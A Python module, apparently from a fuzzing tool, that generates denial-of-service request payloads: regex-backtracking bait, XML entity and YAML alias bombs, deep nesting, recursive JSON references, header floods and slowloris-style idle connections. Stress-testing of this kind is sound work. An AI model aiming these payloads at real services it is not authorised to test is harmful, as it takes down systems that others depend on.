"""Resource exhaustion by requests: small to send, and costly for parsers that are not careful."""

from __future__ import annotations

from flakestorm.model.attack import Attack, Crowd, Due, Piece, Stream, Timing
from flakestorm.mutations.protocol.recipes import Draws, attack, in_object, line, long_line, typed

FAMILY = "resource_exhaustion"


@attack(FAMILY)
def regex_bait_in_headers(draws: Draws) -> Attack:
    """Sends header values on which careless regular expressions take exponential time."""
    unit, end = draws.rng.choice(
        ((" ", "x"), ("a", "!"), (",", "x"), (";q=1", "!"), ('="', "x"), ("a.", "@"), ("\t", "x"))
    )
    value = (Piece(unit, draws.between(200, 4000) // len(unit)), Piece(f"{end}\r\n"))
    names = ("User-Agent", "Accept-Language", "Cookie", "X-Forwarded-For", "If-None-Match")
    pieces: Stream = ()
    for name in names:
        pieces += (Piece(f"{name}: a"), *value)
    return Attack(drop=("user-agent",), headers=pieces)


@attack(FAMILY)
def regex_bait_in_query(draws: Draws) -> Attack:
    """Sends a query on which careless regular expressions take exponential time."""
    unit = draws.rng.choice(("a", "+", "%20", "0", "a@", "-"))
    return Attack(query=(Piece("input="), Piece(unit, draws.between(200, 4000) // len(unit)), Piece("!")))


@attack(FAMILY)
def expanding_entities_in_xml(draws: Draws) -> Attack:
    """Sends XML whose entities stand for ten of the one before, nine levels deep or more."""
    levels = draws.between(6, 12)
    definitions = "".join(f'<!ENTITY e{level} "{f"&e{level - 1};" * 10}">' for level in range(1, levels + 1))
    document = f'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e0 "ha">{definitions}]><x>&e{levels};</x>'
    return typed(draws.rng.choice(("application/xml", "text/xml", "image/svg+xml")), (Piece(document),))


@attack(FAMILY)
def expanding_aliases_in_yaml(draws: Draws) -> Attack:
    """Sends YAML whose aliases stand for ten of the one before."""
    levels = range(1, draws.between(6, 12))
    rows = [f"e{level}: &e{level} [{', '.join([f'*e{level - 1}'] * 10)}]" for level in levels]
    return typed("application/yaml", (Piece("\n".join(['e0: &e0 ["ha"]', *rows])),))


@attack(FAMILY)
def nested_brackets_in_xml(draws: Draws) -> Attack:
    """Sends XML elements in elements in elements."""
    depth = draws.between(1000, 200_000)
    return typed("application/xml", (Piece("<a>", depth), Piece("</a>", depth)))


@attack(FAMILY)
def nested_multipart(draws: Draws) -> Attack:
    """Sends a multipart message in a multipart message, many times over."""
    part = "--b\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n"
    return typed("multipart/form-data; boundary=b", (Piece(part, draws.between(20, 3000)),))


@attack(FAMILY)
def recursive_json(draws: Draws) -> Attack:
    """Adds references in JSON that lead back to themselves."""
    key = draws.rng.choice(("$ref", "$recursiveRef", "@id", "extends", "include"))
    loop = f'"a":{{"{key}":"#/b"}},"b":{{"{key}":"#/a"}},"{key}":"#",'
    return Attack(body=in_object(Piece(loop)))


@attack(FAMILY)
def accept_flood(draws: Draws) -> Attack:
    """Sends thousands of alternatives that content negotiation has to sort."""
    times = draws.between(300, 3000)
    return Attack(
        drop=("accept",),
        headers=(Piece("Accept: */*;q=0.1"), Piece(",a/b;q=0.#", times, numbered=True), Piece("\r\n")),
    )


@attack(FAMILY)
def cookie_flood(draws: Draws) -> Attack:
    """Sends thousands of small cookies."""
    times = draws.between(500, 5000)
    return Attack(headers=(Piece("Cookie: a=b"), Piece("; c#=#", times, numbered=True), Piece("\r\n")))


@attack(FAMILY)
def quoted_cookie(draws: Draws) -> Attack:
    """Sends a cookie whose quotation takes quadratic time to unquote."""
    return Attack(headers=(Piece('Cookie: a="'), Piece("\\073", draws.between(300, 10_000)), Piece('"\r\n')))


@attack(FAMILY)
def parameter_flood(draws: Draws) -> Attack:
    """Sends a content type with thousands of parameters."""
    times = draws.between(200, 3000)
    return Attack(drop=("content-type",), headers=long_line("Content-Type", "a/b;c=d;", times))


@attack(FAMILY)
def idle_connections(draws: Draws) -> Attack:
    """Opens many connections and says nothing on them."""
    return Attack(
        Due.NOTHING,
        timing=Timing(stop_at=0.0, hold_s=draws.wait_s),
        crowd=Crowd(copies=draws.between(16, 128)),
    )


@attack(FAMILY)
def half_requests(draws: Draws) -> Attack:
    """Opens many connections and begins a request on each that never ends."""
    return Attack(
        Due.NOTHING,
        headers=(line("X-Note", "more to come"),),
        timing=Timing(stop_at=1.5, hold_s=draws.wait_s),
        crowd=Crowd(copies=draws.between(16, 128)),
    )
